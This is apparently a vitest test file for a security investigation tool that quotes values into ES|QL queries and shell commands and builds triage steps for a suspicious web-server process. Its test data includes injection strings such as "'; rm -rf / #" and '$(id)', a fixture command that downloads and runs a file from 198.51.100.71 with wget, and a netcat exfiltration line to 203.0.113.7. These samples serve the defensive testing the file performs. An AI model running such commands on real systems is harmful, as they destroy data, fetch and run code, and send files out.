import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseQuery } from '../../../engine/language/parser.ts'
import type { Expression } from '../../../engine/language/ast.ts'
import { type StepContext, investigationSteps } from '../../../engine/rules/investigation-guide.ts'
import { esqlEquals, esqlString, shellWord } from '../../../engine/rules/quoting.ts'

const BASH_ENVIRONMENT = { LC_ALL: 'C.UTF-8', PATH: process.env['PATH'] ?? '' }

const HOSTILE = [
  'plain',
  '"',
  '\\',
  '\\"',
  'a" | DROP x // ',
  '""" | LIMIT 1',
  'line\nbreak\r\n\ttab',
  "it's",
  "'; rm -rf / #",
  '$(id) `id` ${x}',
  '\u202etxt.exe\u0000\u001b[2J',
  '-rf',
  '--',
  '',
  ' ',
  '!x *?[a]{b} ~ \\n',
  'é日😀'
]

function context(change: Partial<StepContext> = {}): StepContext {
  return {
    row: new Map(),
    hosts: ['blog-a'],
    users: ['www-data'],
    t0: '2025-11-17T02:10:01.000Z',
    t1: '2025-11-17T02:10:01.000Z',
    entityIds: ['E1'],
    parentEntityIds: ['P1'],
    pids: [4711],
    parentPids: [4000],
    parentExecutable: '/usr/sbin/php-fpm8.3',
    parentName: 'php-fpm8.3',
    workingDirectory: '/var/www/blog/uploads',
    commandLine: 'sh -c wget -qO /tmp/.x http://198.51.100.71/k && sh /tmp/.x',
    eventCount: 1,
    firstEvent: new Map(),
    matchedBy: 'matched by process.parent.name',
    presence: () => 10,
    datasets: ['endpoint.events.process'],
    ...change
  }
}

/** All string literals of an ES|QL query, by its own parser; fails when it does not parse. */
function literals(query: string): string[] {
  const parsed = parseQuery(query)
  expect(parsed.diagnostics, query).toEqual([])
  const found: string[] = []
  const open: unknown[] = [parsed.query]
  while (open.length > 0) {
    const node = open.pop()
    if (typeof node !== 'object' || node === null) continue
    if ((node as Expression).type === 'string') found.push((node as { value: string }).value)
    open.push(...Object.values(node))
  }
  return found
}

describe('quoting', () => {
  it.each(HOSTILE)('an ES|QL literal of %j is that text and nothing else', (text) => {
    expect(literals(`FROM * | WHERE a == ${esqlString(text)}`)).toEqual([text])
  })
  it('holds for any text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom('"', '\\', '\n', '\r', '\t', 'a', '|', '/', '*', "'", '\u2028', '\0') }), {
          minLength: 1,
          maxLength: 4
        }),
        (texts) => {
          const distinct = [...new Set(texts)]
          expect(new Set(literals(`FROM * | WHERE ${esqlEquals('a', texts)}`))).toEqual(new Set(distinct))
        }
      ),
      { seed: 41, numRuns: 500 }
    )
  })
  it('writes one value with ==, several with IN, none not at all', () => {
    expect([esqlEquals('a.b', ['x']), esqlEquals('a', ['x', 'y', 'x']), esqlEquals('a', [1, 2n]), esqlEquals('a', [])]).toEqual([
      'a.b == "x"',
      'a IN ("x", "y")',
      'a IN (1, 2)',
      null
    ])
  })
  it('a shell reads each word back as it was', () => {
    const texts = HOSTILE.filter((text) => !text.includes('\0'))
    const script = texts.map((text) => `printf '%s\\0' ${shellWord(text)}`).join('\n')
    const read = execFileSync('bash', ['--norc', '-c', script], { env: BASH_ENVIRONMENT })
    expect(read.toString('utf8').split('\0').slice(0, -1)).toEqual(texts)
  })
  it('never hands invisible characters to a terminal', () => {
    expect(shellWord('\u202etxt\u001b[2J\0')).toBe(`$'\\u202etxt\\x1b[2J\\x00'`)
    expect(shellWord("a'b")).toBe(`'a'\\''b'`)
  })
})

describe('investigationSteps', () => {
  it('has the steps in the order of thought', () => {
    expect(investigationSteps(context()).map((step) => step.id)).toEqual([
      'decode',
      'why',
      'tree',
      'same-user',
      'rarity',
      'same-place',
      'near-misses',
      'files-before',
      'files-after',
      'connections',
      'inbound',
      'elsewhere',
      'indicators',
      'web-log',
      'privilege',
      'verdict',
      'contain'
    ])
  })

  it('gives each step a title, a sentence, a meaning, and a query or what is missing', () => {
    for (const step of investigationSteps(context())) {
      expect(
        [step.title, step.text, step.meaning].every((text) => text.length > 10),
        step.id
      ).toBe(true)
      expect(step.query ?? step.missing, step.id).not.toBeNull()
      expect(step.text + step.meaning).not.toMatch(/undefined|null|NaN|\[object/)
    }
  })

  it('binds the values of the finding', () => {
    const steps = new Map(investigationSteps(context()).map((step) => [step.id, step]))
    expect(steps.get('files-before')!.query).toBe(`FROM *
| WHERE host.name == "blog-a"
    AND user.name == "www-data"
    AND @timestamp >= "2025-11-17T01:10:01.000Z"
    AND @timestamp <= "2025-11-17T02:10:01.000Z"
    AND file.path IS NOT NULL
    AND (MV_CONCAT(event.type, ",") LIKE "*creation*" OR MV_CONCAT(event.type, ",") LIKE "*change*")
| SORT @timestamp
| KEEP @timestamp, event.action, process.name, process.pid, file.path
| LIMIT 1000`)
    expect(steps.get('tree')!.query).toContain('(process.parent.entity_id == "E1" OR process.entity_id IN ("E1", "P1"))')
    expect(steps.get('decode')!.facts).toEqual([
      { label: 'programs', value: 'sh, wget' },
      { label: 'addresses', value: '198.51.100.71' },
      { label: 'URLs', value: 'http://198.51.100.71/k' },
      { label: 'paths', value: '/tmp/.x' }
    ])
    expect(steps.get('web-log')!.hostCommand).toContain('-e 17/Nov/2025:02:10:01 ')
    expect(steps.get('web-log')!.facts).toEqual([{ label: 'directory as URL path', value: '/blog/uploads' }])
    expect(steps.get('verdict')!.facts.map((fact) => fact.label)).toEqual(['against routine', 'against routine'])
    expect(steps.get('contain')!.hostCommand).toBe(`mkdir -p /root/evidence
cp -a /proc/4711/exe /proc/4711/cmdline /proc/4711/environ /root/evidence/
cp -a --parents -- /tmp/.x /root/evidence/
kill -STOP 4711
nft add rule inet filter output ip daddr 198.51.100.71 drop`)
  })

  it('sees routine where it is', () => {
    const routine = context({
      commandLine: "sh -c convert 'a.jpg' -resize 300x200 'b.jpg'",
      workingDirectory: '/var/www/html/wp-content/plugins/gallery'
    })
    expect(investigationSteps(routine).find((step) => step.id === 'verdict')!.facts).toEqual([
      { label: 'for routine', value: 'it starts only helpers that applications use (convert)' },
      { label: 'for routine', value: 'it runs below a plugin or module directory' }
    ])
    const job = context({
      commandLine: '/bin/sh -c php /var/www/html/wp-cron.php',
      parentName: 'cron',
      workingDirectory: '/var/www'
    })
    expect(
      investigationSteps(job)
        .find((step) => step.id === 'verdict')!
        .facts.map((fact) => fact.label)
    ).toEqual(['for routine', 'for routine'])
  })

  it('names missing data and leaves out conditions that no event could fulfil', () => {
    const absent = new Set([
      'file.path',
      'destination.ip',
      'source.ip',
      'url.path',
      'event.type',
      'user.name',
      'process.entity_id',
      'process.parent.entity_id'
    ])
    const steps = investigationSteps(context({ presence: (field) => (absent.has(field) ? 0 : null) }))
    const missing = steps.filter((step) => step.missing !== null)
    expect(missing.map((step) => step.id)).toEqual(['files-before', 'files-after', 'connections', 'inbound', 'web-log'])
    expect(missing[0]!.missing).toBe(
      'No loaded event has file.path: file events are not part of the data. Loaded: endpoint.events.process.'
    )
    expect(missing.every((step) => step.hostCommand !== null)).toBe(true)
    for (const step of steps) if (step.query !== null) expect(step.query).not.toMatch(/user\.name ==|event\.type|entity_id/)
  })

  it('asks nothing that does not parse, whatever the values are', () => {
    for (const text of HOSTILE) {
      const steps = investigationSteps(
        context({
          hosts: [text, 'b'],
          users: [text],
          entityIds: [text],
          parentEntityIds: [text],
          parentExecutable: text,
          parentName: text,
          workingDirectory: `/var/www/${text}`,
          commandLine: `sh -c cat /tmp/${text} | nc 203.0.113.7 1 ${text}`,
          matchedBy: text
        })
      )
      for (const step of steps) {
        if (step.query !== null) literals(step.query)
        if (step.hostCommand !== null) execFileSync('bash', ['--norc', '-n', '-c', step.hostCommand], { env: BASH_ENVIRONMENT })
      }
      const elsewhere = steps.find((step) => step.id === 'elsewhere')!
      expect(literals(elsewhere.query!)).toEqual([`sh -c cat /tmp/${text} | nc 203.0.113.7 1 ${text}`])
    }
  })

  it('works with next to nothing', () => {
    const bare = context({
      hosts: [],
      users: [],
      t0: null,
      t1: null,
      entityIds: [],
      parentEntityIds: [],
      pids: [],
      parentPids: [],
      parentExecutable: null,
      parentName: null,
      workingDirectory: null,
      commandLine: null,
      matchedBy: null,
      datasets: null,
      presence: () => null
    })
    for (const step of investigationSteps(bare)) {
      if (step.query !== null) literals(step.query)
      expect(step.query ?? step.missing ?? step.text).not.toBe('')
      expect(step.text).not.toMatch(/null|undefined/)
    }
  })
})
